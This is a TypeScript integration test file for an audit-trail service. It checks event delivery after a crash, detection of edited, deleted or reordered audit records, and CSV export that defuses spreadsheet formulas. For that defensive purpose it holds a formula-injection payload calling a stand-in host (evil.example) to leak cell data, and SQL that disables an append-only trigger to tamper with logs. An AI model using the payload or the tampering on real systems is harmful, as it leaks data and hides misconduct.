import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { awaitAuditEvents } from '../src/audit-trail.ts';
import { dataOf, errorCode, graphql } from '../src/client.ts';
import type { Caller, GraphQLResult } from '../src/client.ts';
import { addMember, createWorkspace, sampleAddress } from '../src/fixtures.ts';
import { asDatabaseSuperuser } from '../src/superuser-sql.ts';
import { startTestStack } from '../src/test-stack.ts';
import type { TestStack } from '../src/test-stack.ts';

// A stack of its own: these tests stop the audit subgraph and reach into its database.
const createAccountMutation = 'mutation ($input: CreateAccountInput!) { createAccount(input: $input) { id } }';
const verifyQuery = '{ verifyAuditChain { valid lastSequence firstBrokenSequence problem checkpointsVerified } }';

interface Verification {
  verifyAuditChain: {
    valid: boolean;
    lastSequence: number;
    firstBrokenSequence: number | null;
    problem: string | null;
    checkpointsVerified: number;
  };
}

describe('audit trail integrity', () => {
  let stack: TestStack;
  const graph = () => ({ gatewayUrl: stack.gatewayUrl, outboxDir: stack.outboxDir });
  before(async () => {
    // A checkpoint every few events, so tampering in the middle of a short trail meets one.
    stack = await startTestStack({ serviceEnv: { audit: { AUDIT_CHECKPOINT_EVERY: '3' } } });
  });
  after(() => stack?.close());

  const createAccount = (as: Caller, number: number): Promise<GraphQLResult<unknown>> =>
    graphql(stack.gatewayUrl, createAccountMutation, {
      as,
      variables: { input: { number: String(number), name: `Account ${number}`, type: 'EXPENSE' } },
    });
  const verify = async (as: Caller) => dataOf(await graphql<Verification>(stack.gatewayUrl, verifyQuery, { as }));

  it('delivers every event of a burst made while the audit subgraph went down, once each, and the chain verifies', async () => {
    const owner = await createWorkspace(graph(), 'Outage AG');
    const viewer = await addMember(graph(), owner, 'VIEWER');
    const burst: Promise<GraphQLResult<unknown>>[] = [];
    for (let index = 0; index < 10; index++) burst.push(createAccount(owner, 5000 + index));
    // The audit subgraph is killed (SIGKILL, as in a crash) while the first requests are in flight:
    // an ingest it committed may never have been answered, so the relay sends it again.
    const stopped = stack.stop('audit', 'SIGKILL');
    for (let index = 10; index < 25; index++) burst.push(createAccount(owner, 5000 + index));
    const results = await Promise.all(burst);
    await stopped;
    for (let index = 25; index < 30; index++) results.push(await createAccount(owner, 5000 + index));
    // A refusal at the gateway waits in its buffer meanwhile.
    const refused = await createAccount(viewer, 6000);
    assert.equal(errorCode(refused), 'FORBIDDEN');
    for (const result of results) dataOf(result);
    await stack.start('audit');

    const expected = [...results, refused].map((result) => result.requestId ?? '');
    const events = await awaitAuditEvents(stack.gatewayUrl, owner, (seen) =>
      expected.every((id) => seen.some((event) => event.requestId === id)),
    );
    for (const id of expected) {
      assert.equal(events.filter((event) => event.requestId === id).length, 1, `request ${id}`);
    }
    assert.deepEqual(
      events.map((event) => event.sequence),
      events.map((_, index) => index + 1),
    );
    const { verifyAuditChain } = await verify(owner);
    assert.equal(verifyAuditChain.valid, true, verifyAuditChain.problem ?? '');
    assert.equal(verifyAuditChain.lastSequence, events.length);
  });

  it('names the first broken sequence number when one stored event is edited, deleted or reordered', async () => {
    const edited = await createWorkspace(graph(), 'Edited AG');
    const deleted = await createWorkspace(graph(), 'Deleted AG');
    const reordered = await createWorkspace(graph(), 'Reordered AG');
    const workspaces = [edited, deleted, reordered];
    for (const workspace of workspaces) {
      for (let index = 0; index < 4; index++) dataOf(await createAccount(workspace, 1000 + index));
      await awaitAuditEvents(stack.gatewayUrl, workspace, (seen) => seen.length >= 5);
      assert.equal((await verify(workspace)).verifyAuditChain.valid, true);
    }
    await asDatabaseSuperuser(stack, 'audit', async (query) => {
      // What someone with the database could do: the append-only trigger is switched off first.
      await query('ALTER TABLE audit.audit_events DISABLE TRIGGER audit_events_append_only');
      await query(`UPDATE audit.audit_events SET after = '{"number":"9999"}' WHERE tenant_id = $1 AND seq = 3`, [
        edited.workspaceId,
      ]);
      await query('DELETE FROM audit.audit_events WHERE tenant_id = $1 AND seq = 3', [deleted.workspaceId]);
      await query('UPDATE audit.audit_events SET seq = 1000 WHERE tenant_id = $1 AND seq = 3', [reordered.workspaceId]);
      await query('UPDATE audit.audit_events SET seq = 3 WHERE tenant_id = $1 AND seq = 4', [reordered.workspaceId]);
      await query('UPDATE audit.audit_events SET seq = 4 WHERE tenant_id = $1 AND seq = 1000', [reordered.workspaceId]);
      await query('ALTER TABLE audit.audit_events ENABLE TRIGGER audit_events_append_only');
    });
    for (const [workspace, problem] of [
      [edited, /content/],
      [deleted, /missing/],
      [reordered, /content|link/],
    ] as const) {
      const { verifyAuditChain } = await verify(workspace);
      assert.equal(verifyAuditChain.valid, false, workspace.name);
      assert.equal(verifyAuditChain.firstBrokenSequence, 3, workspace.name);
      assert.match(verifyAuditChain.problem ?? '', problem);
    }
  });

  it('exports only the workspace’s own events, neutralises formulas in CSV, and tells a PRO workspace which plans may export', async () => {
    const plus = await createWorkspace(graph(), 'Export Plus AG');
    const pro = await createWorkspace(graph(), 'Export Pro AG');
    await asDatabaseSuperuser(stack, 'identity', async (query) => {
      await query(`UPDATE identity.tenants SET plan = 'PRO_PLUS' WHERE id = $1`, [plus.workspaceId]);
      await query(`UPDATE identity.tenants SET plan = 'PRO' WHERE id = $1`, [pro.workspaceId]);
    });
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")';
    const contact = await graphql(
      stack.gatewayUrl,
      'mutation ($input: CreateContactInput!) { createContact(input: $input) { id } }',
      {
        as: plus,
        headers: { 'user-agent': formula },
        variables: { input: { kind: 'CUSTOMER', name: '+41 Formula AG', address: sampleAddress } },
      },
    );
    dataOf(contact);
    dataOf(await createAccount(pro, 1000));
    const plusEvents = await awaitAuditEvents(stack.gatewayUrl, plus, (seen) =>
      seen.some((event) => event.requestId === contact.requestId),
    );
    const exportQuery = `query ($from: String!, $to: String!, $format: AuditExportFormat!) {
      workspace { auditExport(from: $from, to: $to, format: $format) { format contentType eventCount content } } }`;
    const range = {
      from: new Date(Date.now() - 86_400_000).toISOString(),
      to: new Date(Date.now() + 86_400_000).toISOString(),
    };
    type ExportData = { workspace: { auditExport: { contentType: string; eventCount: number; content: string } } };
    const jsonLines = dataOf(
      await graphql<ExportData>(stack.gatewayUrl, exportQuery, {
        as: plus,
        variables: { ...range, format: 'JSON_LINES' },
      }),
    ).workspace.auditExport;
    const lines = jsonLines.content
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { requestId: string; sequence: number });
    assert.equal(jsonLines.eventCount, lines.length);
    assert.ok(lines.length >= plusEvents.length);
    const ownRequests = new Set(plusEvents.map((event) => event.requestId));
    for (const line of lines.slice(0, plusEvents.length)) assert.ok(ownRequests.has(line.requestId));
    assert.doesNotMatch(jsonLines.content, new RegExp(pro.workspaceId));

    const csv = dataOf(
      await graphql<ExportData>(stack.gatewayUrl, exportQuery, { as: plus, variables: { ...range, format: 'CSV' } }),
    ).workspace.auditExport;
    assert.equal(csv.contentType, 'text/csv; charset=utf-8');
    const row = csv.content.split('\r\n').find((line) => line.includes(contact.requestId ?? 'none'));
    assert.ok(row);
    // The user agent cell begins with "=": a spreadsheet would run it; the export makes it text.
    assert.ok(row.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Invoice"")"`), row);
    assert.ok(!/(^|,)[=+\-@]/.test(row.replace(/"[^"]*"/g, '""')), `a cell begins like a formula: ${row}`);

    const refused = await graphql(stack.gatewayUrl, exportQuery, { as: pro, variables: { ...range, format: 'CSV' } });
    const error = refused.body.errors?.[0];
    assert.equal(error?.extensions?.code, 'FORBIDDEN');
    assert.equal(error?.extensions?.reason, 'PLAN_REQUIRED');
    assert.match(error?.message ?? '', /PRO_PLUS or ENTERPRISE plan; this workspace is on PRO/);
  });
});
